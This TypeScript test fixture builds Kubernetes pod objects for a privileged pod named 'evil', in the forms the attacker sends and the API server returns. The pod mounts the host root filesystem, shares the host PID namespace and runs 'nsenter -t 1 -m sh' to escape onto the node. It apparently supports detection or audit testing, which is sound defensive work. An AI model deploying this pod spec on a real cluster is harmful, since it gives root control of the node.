import { leaves, managed, now, ownedLeaves } from './metadata';
import { admitted, containerDefaults, podSpecFields, tokenMount, tokenVolume } from './pods';
import { uidOf } from '../uidOf';

const hostPath = { path: '/', type: '' };
const host = { name: 'host', hostPath };
const hostMount = { name: 'host', mountPath: '/host' };
const command = ['nsenter', '-t', '1', '-m', 'sh'];
const securityContext = { privileged: true };
const name = 'evil';
const namespace = 'prod';
const labels = { app: name };

/** The manifest, with sorted keys, as kubectl apply keeps it. */
export const evilManifest = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { annotations: {}, labels, name, namespace },
  spec: {
    containers: [
      {
        command,
        image: 'alpine',
        name: 'c',
        securityContext,
        volumeMounts: [{ mountPath: '/host', name: 'host' }],
      },
    ],
    hostPID: true,
    volumes: [{ hostPath: { path: '/' }, name: 'host' }],
  },
};
const lastApplied = 'kubectl.kubernetes.io/last-applied-configuration';
const annotations = { [lastApplied]: `${JSON.stringify(evilManifest)}\n` };

/** A container that enters the namespaces of the node. */
const escape = (mounts: object[]) => ({
  name: 'c',
  image: 'alpine',
  command,
  resources: {},
  volumeMounts: mounts,
  ...containerDefaults,
  imagePullPolicy: 'Always',
  securityContext,
});

/** The pod that the attacker sends. */
export const privilegedPodSent = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name, namespace, labels, annotations },
  spec: {
    volumes: [host],
    containers: [escape([hostMount])],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    hostPID: true,
    securityContext: {},
    schedulerName: 'default-scheduler',
    enableServiceLinks: true,
  },
  status: {},
};

/** The pod that the API server returns. */
export const privilegedPodCreated = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: {
    name,
    namespace,
    uid: uidOf('evil'),
    resourceVersion: '705',
    generation: 1,
    creationTimestamp: now,
    labels,
    annotations,
    managedFields: [
      managed('kubectl-client-side-apply', 'v1', now, {
        'f:metadata': {
          'f:annotations': ownedLeaves(lastApplied),
          'f:labels': ownedLeaves('app'),
        },
        'f:spec': {
          ...podSpecFields(
            'c',
            {
              ...ownedLeaves('command', 'image', 'imagePullPolicy', 'name', 'resources'),
              'f:securityContext': ownedLeaves('privileged'),
              ...leaves('terminationMessagePath', 'terminationMessagePolicy'),
              'f:volumeMounts': {
                '.': {},
                'k:{"mountPath":"/host"}': ownedLeaves('mountPath', 'name'),
              },
            },
            'enableServiceLinks',
            'hostPID',
          ),
          'f:volumes': {
            '.': {},
            'k:{"name":"host"}': {
              '.': {},
              'f:hostPath': ownedLeaves('path', 'type'),
              'f:name': {},
            },
          },
        },
      }),
    ],
  },
  spec: {
    volumes: [host, tokenVolume],
    containers: [escape([hostMount, tokenMount])],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    serviceAccountName: 'default',
    serviceAccount: 'default',
    hostPID: true,
    securityContext: {},
    ...admitted,
  },
  status: { phase: 'Pending', qosClass: 'BestEffort' },
};
